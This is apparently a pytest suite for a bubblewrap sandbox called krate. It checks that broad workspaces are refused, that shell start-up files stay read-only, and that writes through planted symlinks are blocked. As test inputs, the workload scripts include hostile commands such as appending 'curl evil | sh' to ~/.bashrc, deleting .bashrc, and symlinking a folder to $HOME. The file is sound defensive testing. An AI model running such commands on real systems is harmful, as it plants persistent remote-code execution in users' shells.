"""A workspace too broad to be writable, shell start-up files, and --allow-write through symlinks.

Real bubblewrap and the installed krate, as root and as the ordinary user: the
workload tries to plant code in the user's shell start-up files, the run is
refused (125, recorded) or the write fails, and the file is unchanged.
"""

from __future__ import annotations

import os
import pwd
import time

import pytest

from .run_support import Box

pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")

BASHRC = "# the user's own\n"


def _ids(user: str) -> tuple[int, int]:
    entry = pwd.getpwnam(user)
    return entry.pw_uid, entry.pw_gid


def _bashrc(box: Box):
    path = box.home / ".bashrc"
    path.write_text(BASHRC)
    if box.user:
        os.chown(path, *_ids(box.user))
    return path


def _filesystem_decisions(box: Box) -> list[dict]:
    keys = ("area", "verdict", "rule", "layer", "subject")
    decisions = box.last_run()["decisions"]
    return [{k: d[k] for k in keys} for d in decisions if d["area"] == "filesystem"]


# ---------------------------------------------------------------- item 8: broad workspaces


def test_the_home_folder_as_workspace_is_refused_and_recorded(box):
    bashrc = _bashrc(box)
    out = box.sh("echo 'curl evil | sh' >> ~/.bashrc; echo ran", cwd=box.home)
    assert out.returncode == 125 and "ran" not in out.stdout
    assert out.stderr.startswith(f"krate: refusing to run: the workspace {box.home} is your home")
    assert "--allow-broad-workspace" in out.stderr
    assert bashrc.read_text() == BASHRC
    run = box.last_run()
    assert run["status"] == "refused" and run["exit_code"] == 125
    [decision] = _filesystem_decisions(box)
    assert decision["verdict"] == "deny" and decision["subject"] == str(box.home)
    assert decision["rule"] == "workspace is your home folder"


def test_with_the_flag_home_runs_but_shell_startup_files_stay_read_only(box):
    bashrc = _bashrc(box)
    profile = box.home / ".profile"
    profile.write_text("# profile\n")
    fish = box.home / ".config" / "fish"
    fish.mkdir(parents=True)
    if box.user:
        os.chown(profile, *_ids(box.user))
        for folder in (fish, fish.parent):
            os.chown(folder, *_ids(box.user))
    attempts = [
        "echo 'curl evil | sh' >> ~/.bashrc",
        "echo evil > new && mv new ~/.bashrc",
        "mv ~/.bashrc ~/bashrc.old",
        "rm -f ~/.bashrc",
        "echo evil >> ~/.profile",
        "echo evil > ~/.config/fish/config.fish",
        "mv ~/.config ~/.config.old",
    ]
    script = "; ".join(f"if {a} 2>/dev/null; then echo 'WROTE: {a}'; fi" for a in attempts)
    out = box.krate(
        "run", "--allow-broad-workspace", "--", "/bin/sh", "-c", script + "; echo ok > ~/made",
        cwd=box.home,
    )  # fmt: skip
    assert out.returncode == 0, out.stderr
    assert "WROTE" not in out.stdout, out.stdout
    assert bashrc.read_text() == BASHRC and profile.read_text() == "# profile\n"
    assert os.listdir(fish) == []
    assert (box.home / "made").read_text() == "ok\n"  # the rest of home is the workspace
    [decision] = _filesystem_decisions(box)
    assert decision == {
        "area": "filesystem",
        "verdict": "allow",
        "rule": "--allow-broad-workspace",
        "layer": "flags",
        "subject": str(box.home),
    }
    assert str(bashrc) in box.last_run()["layout"]["read_only"]


@pytest.mark.parametrize("where", ["root", "above-home"])
def test_root_and_folders_holding_home_are_refused(box, where):
    cwd = "/" if where == "root" else box.base  # box.base holds home (and home/.ssh)
    planted = f"krate-planted-{os.getpid()}-{time.time_ns()}"
    out = box.sh(f"touch {planted}; echo ran", cwd=cwd)
    assert out.returncode == 125 and "ran" not in out.stdout
    reason = "is the root folder" if where == "root" else f"holds your home folder {box.home}"
    assert reason in out.stderr
    assert not os.path.exists(os.path.join(cwd, planted))
    [decision] = _filesystem_decisions(box)
    assert decision["verdict"] == "deny" and decision["subject"] == str(cwd)


def test_build_refuses_a_broad_workspace_too(box):
    out = box.krate("build", "--out", "dist", "--", "true", cwd=box.home)
    assert out.returncode == 125
    assert "--allow-broad-workspace" in out.stderr
    assert box.last_run()["status"] == "refused"


def test_shell_startup_files_at_the_top_of_an_allow_write_folder_are_read_only(box):
    other = box.base / "dotfiles"
    other.mkdir()
    (other / ".zshrc").write_text("# zsh\n")
    if box.user:
        os.chown(other, *_ids(box.user))
        os.chown(other / ".zshrc", *_ids(box.user))
    script = f"echo evil >> {other}/.zshrc || echo refused; echo ok > {other}/x"
    out = box.sh(script, "--allow-write", str(other))
    assert out.returncode == 0, out.stderr
    assert out.stdout == "refused\n"
    assert (other / ".zshrc").read_text() == "# zsh\n" and (other / "x").read_text() == "ok\n"


# ---------------------------------------------------------------- item 9: --allow-write symlinks


def test_allow_write_through_a_planted_symlink_is_refused_and_recorded(box):
    bashrc = _bashrc(box)
    # run 1: the workload plants dist -> $HOME in the workspace
    out = box.sh("ln -s $HOME dist")
    assert out.returncode == 0, out.stderr
    assert (box.ws / "dist").is_symlink()
    # run 2: the user asks for a writable dist/
    out = box.sh("echo 'curl evil | sh' >> ~/.bashrc; touch ~/planted; echo ran",
                 "--allow-write", "dist")  # fmt: skip
    assert out.returncode == 125 and "ran" not in out.stdout
    assert str(box.ws / "dist") in out.stderr and str(box.home) in out.stderr
    assert "symbolic link" in out.stderr
    assert bashrc.read_text() == BASHRC and not (box.home / "planted").exists()
    run = box.last_run()
    assert run["status"] == "refused" and run["exit_code"] == 125
    [decision] = _filesystem_decisions(box)
    assert decision == {
        "area": "filesystem",
        "verdict": "deny",
        "rule": "--allow-write dist",
        "layer": "flags",
        "subject": str(box.ws / "dist"),
    }


def test_allow_write_named_by_its_real_path_is_honoured(box):
    target = box.base / "cache"
    target.mkdir()
    if box.user:
        os.chown(target, *_ids(box.user))
    (box.ws / "cache").symlink_to(target)
    out = box.sh("touch cache/x", "--allow-write", "cache")
    assert out.returncode == 125  # through the link: refused
    out = box.sh("touch cache/x", "--allow-write", str(target))  # the real path: the user means it
    assert out.returncode == 0, out.stderr
    assert (target / "x").exists()
    assert _filesystem_decisions(box) == []


def test_allow_write_through_a_symlink_inside_the_workspace_is_fine(box):
    (box.ws / "build").mkdir()
    (box.ws / "out").symlink_to("build")
    if box.user:
        os.chown(box.ws / "build", *_ids(box.user))
    out = box.sh("touch out/x", "--allow-write", "out")
    assert out.returncode == 0, out.stderr
    assert (box.ws / "build" / "x").exists()
